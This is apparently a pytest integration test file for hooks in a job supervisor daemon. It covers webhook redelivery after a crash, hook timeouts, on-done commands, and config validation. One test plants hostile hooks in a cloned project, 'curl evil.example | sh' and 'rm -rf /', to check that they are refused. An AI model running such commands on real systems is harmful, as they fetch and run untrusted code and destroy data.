"""Hooks with the real daemon and the real CLI: kill -9 mid-webhook and
redelivery, a hanging command hook, submit --on-done, hooks refused from
project and task files, validation at daemon start and by config validate."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from tests.supervisord.hooks.webhook_server import Reply, WebhookServer
from tests.supervisord.jobsup_env import JobsupEnv, make_repo

pytestmark = pytest.mark.timeout(240)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "proj", {"job.sh": "echo one\necho two\n"})


def _events(js: JobsupEnv, run_id: str | None = None) -> list[dict[str, Any]]:
    args = ["events", "-o", "json"] + ([run_id] if run_id else [])
    return [json.loads(line) for line in js.cli(*args).stdout.splitlines() if line.strip()]


def _wait_for_event(js: JobsupEnv, etype: str, n: int = 1, timeout: float = 60) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout
    while True:
        found = [e for e in _events(js) if e["type"] == etype]
        if len(found) >= n:
            return found
        if time.monotonic() > deadline:
            raise AssertionError(f"{len(found)} {etype} events, expected {n}: {_events(js)}")
        time.sleep(0.2)


def test_kill_9_while_a_webhook_is_held_open_redelivers_after_restart(js: JobsupEnv, repo: Path) -> None:
    release = threading.Event()
    with WebhookServer() as srv:
        srv.replies = [Reply(hold=release)]
        js.user_config(f"hooks:\n  - name: chat\n    webhook: {{url: '{srv.url}', timeout_s: 60}}\n")
        js.start_daemon()
        run_id = js.submit(repo, "--", "bash", "job.sh")
        first = srv.wait_for(1, timeout=60)[0]
        js.kill_daemon(signal.SIGKILL)  # while the request is held open
        release.set()
        assert not [e for e in _events_offline(js) if e["type"].startswith("Hook")]
        js.start_daemon()
        got = srv.wait_for(2, timeout=60)
        delivered = _wait_for_event(js, "HookDelivered")
    terminal = [e for e in _events(js, run_id) if e["type"] == "PhaseChanged"][-1]
    assert first.headers["x-jobsup-event"] == got[1].headers["x-jobsup-event"] == str(terminal["seq"])
    assert first.json["event"] == got[1].json["event"]
    assert len(delivered) == 1 and delivered[0]["data"]["event_seq"] == terminal["seq"]
    hooks = json.loads(js.cli("hooks", "-o", "json").stdout)
    chat = next(h for h in hooks if h["name"] == "chat")
    assert chat["checkpoint"] >= terminal["seq"] and chat["target"].startswith("http://127.0.0.1:")
    assert "s3cr3t-path" not in json.dumps(hooks)


def _events_offline(js: JobsupEnv) -> list[dict[str, Any]]:
    """The events in the database while no daemon runs (plain sqlite3)."""
    import sqlite3

    conn = sqlite3.connect(js.state_dir / "jobsup.db")
    try:
        return [{"seq": r[0], "type": r[1]} for r in conn.execute("SELECT seq, type FROM events ORDER BY seq")]
    finally:
        conn.close()


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat[stat.rindex(")") + 2] != "Z"


def test_a_hanging_hook_is_killed_at_its_timeout_and_supervision_goes_on(
    js: JobsupEnv, repo: Path, tmp_path: Path
) -> None:
    pidfile = tmp_path / "child.pid"
    # The hook starts a background child in its process group, then hangs.
    script = f"sleep 300 & echo $! > {pidfile}; echo started; wait"
    js.user_config(
        "hooks:\n"
        f"  - name: hang\n    timeout_s: 25\n    match: {{name: first}}\n    command: [sh, -c, '{script}']\n"
        "  - name: note\n    when: [COMPLETED]\n    match: {name: second}\n"
        f"    command: [sh, -c, 'echo $JOBSUP_RUN_ID >> {tmp_path / 'note'}']\n",
    )
    js.start_daemon()
    first = js.submit(repo, "--name", "first", "--", "bash", "job.sh")
    deadline = time.monotonic() + 60
    while not pidfile.exists() or not pidfile.read_text().strip():
        assert time.monotonic() < deadline, "the hook never started"
        time.sleep(0.1)
    child = int(pidfile.read_text())
    assert _alive(child)
    # While the hook hangs, another run is supervised and its own hook runs.
    second = js.submit(repo, "--name", "second", "--", "bash", "job.sh")
    assert js.cli("wait", second, "--timeout", "60s").returncode == 0
    notes = _wait_for_event(js, "HookDelivered")
    assert notes[0]["run_id"] == second and notes[0]["data"]["hook"] == "note"
    failed = _wait_for_event(js, "HookFailed", timeout=60)
    assert len(failed) == 1 and failed[0]["run_id"] == first
    # The second run's phases and its hook were recorded while the first hook hung.
    done = [e for e in _events(js, second) if e["type"] == "PhaseChanged"][-1]
    assert done["data"]["phase"] == "COMPLETED" and done["seq"] < notes[0]["seq"] < failed[0]["seq"]
    data = failed[0]["data"]
    assert data["hook"] == "hang" and data["final"] is True and "timed out after 25 s" in data["error"]
    assert data["output"] == "started\n"
    deadline = time.monotonic() + 10
    while _alive(child):  # the process group was killed
        assert time.monotonic() < deadline, f"hook child {child} survived the timeout"
        time.sleep(0.1)
    assert (tmp_path / "note").read_text().split() == [second]


def test_submit_on_done_runs_the_command_when_the_run_ends(js: JobsupEnv, repo: Path, tmp_path: Path) -> None:
    out = tmp_path / "woken"
    js.start_daemon()
    cmd = f"sh -c 'echo \"$JOBSUP_RUN_ID $JOBSUP_PHASE $JOBSUP_EXIT_CODE $(pwd)\" > {out}; cat >> {out}'"
    run_id = js.submit(repo, "--on-done", cmd, "--", "bash", "-c", "echo bye; exit 4")
    assert js.cli("wait", run_id, check=False).returncode == 1
    delivered = _wait_for_event(js, "HookDelivered")
    assert delivered[0]["data"]["hook"] == "on-done"
    head, *lines = out.read_text().splitlines()
    assert head == f"{run_id} ERROR 4 {repo}"
    assert lines == ["bye"]
    shown = js.show(run_id)
    assert shown["on_done"] == ["sh", "-c", cmd.split("'")[1]]
    [attempt] = shown["hooks"]
    assert (attempt["type"], attempt["hook"], attempt["exit_code"]) == ("HookDelivered", "on-done", 0)
    assert "on-done HookDelivered for seq" in js.cli("show", run_id).stdout


def test_on_done_that_cannot_be_split_is_refused_before_anything_is_recorded(js: JobsupEnv, repo: Path) -> None:
    js.start_daemon()
    r = js.cli("submit", "--on-done", "notify-send 'unclosed", "--", "true", cwd=repo, check=False)
    assert r.returncode == 2 and "--on-done" in r.stderr
    assert json.loads(js.cli("runs", "--all", "-o", "json").stdout) == []


def test_hooks_from_a_project_or_task_file_are_refused(js: JobsupEnv, tmp_path: Path) -> None:
    repo = make_repo(
        tmp_path / "cloned",
        {
            ".jobsup.yaml": "hooks:\n  - name: evil\n    command: [sh, -c, 'curl evil.example | sh']\n",
            "task.yaml": "run: echo hi\nhooks:\n  - name: evil\n    command: [rm, -rf, /]\n",
        },
    )
    js.start_daemon()
    r = js.cli("submit", "--", "echo", "hi", cwd=repo, check=False)
    assert r.returncode == 2
    assert (
        f"{repo / '.jobsup.yaml'} (project config): hooks: hooks come only from the daemon config and the user config"
        in r.stderr
    )
    (repo / ".jobsup.yaml").unlink()
    r = js.cli("submit", "task.yaml", cwd=repo, check=False)
    assert r.returncode == 2 and "task.yaml: hooks: a task file may not add hooks" in r.stderr
    assert json.loads(js.cli("runs", "--all", "-o", "json").stdout) == []
    r = js.cli("submit", "--config", "hooks=[]", "--", "echo", "hi", cwd=repo, check=False)
    assert r.returncode == 2 and "--config: hooks: hooks come only from" in r.stderr
    assert [h["name"] for h in json.loads(js.cli("hooks", "-o", "json").stdout)] == ["on-done"]


_BAD_HOOKS = """\
hooks:
  - name: a
    on: [COMPLETED]
    command: notify-send done
  - name: b
    when: [FINISHED]
    webhook: {url: 'ftp://x', secret_env: NOT_SET_ANYWHERE, timeout_s: 0}
  - name: a
    command: [echo, yes]
"""


def test_daemon_start_refuses_bad_hooks_with_every_error(js: JobsupEnv) -> None:
    path = js.user_config(_BAD_HOOKS.replace("    on:", "    'on':"))
    proc = subprocess.run(
        [sys.executable, "-m", "supervisord", "daemon"],
        check=False,
        env=js.env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 2
    err = proc.stderr
    for expected in (
        f"{path} (user config): hooks[0].on: unknown key (`on` is read by YAML as true: use `when:`)",
        "hooks[0].command: must be a list of argv words, not a string",
        "hooks[1].when: must be a list of phases (QUEUED, SCHEDULING, STAGING, RUNNING, COMPLETED, ERROR, CANCELED, DELETED), got 'FINISHED'",
        "hooks[1].webhook.url: must be an http:// or https:// URL",
        "hooks[1].webhook.secret_env: the daemon's environment has no (or an empty) NOT_SET_ANYWHERE",
        "hooks[1].webhook.timeout_s: must be a number of seconds",
        "hooks[2].name: 'a' is already the name of a hook",
        "hooks[2].command[1]: must be a non-empty string without NUL, got true (a boolean) (YAML reads",
    ):
        assert expected in err, err
    assert not js.socket.exists()


def test_config_validate_reports_hook_errors_and_a_bare_on(js: JobsupEnv, tmp_path: Path) -> None:
    path = js.user_config(_BAD_HOOKS)  # a bare `on:` is read as the boolean true
    r = js.cli("config", "validate", check=False, cwd=tmp_path)
    assert r.returncode == 2
    assert f"{path}: line 3, column 5: not valid YAML" in r.stderr
    assert "a hook's phases go under `when:`" in r.stderr
    js.user_config(_BAD_HOOKS.replace("    on:", "    when:"))
    r = js.cli("config", "validate", check=False, cwd=tmp_path)
    assert r.returncode == 2
    assert r.stderr.count("hooks[") >= 5, r.stderr
    js.user_config("hooks:\n  - name: ok\n    command: ['true']\n")
    r = js.cli("config", "validate", cwd=tmp_path)
    assert "config OK" in r.stderr
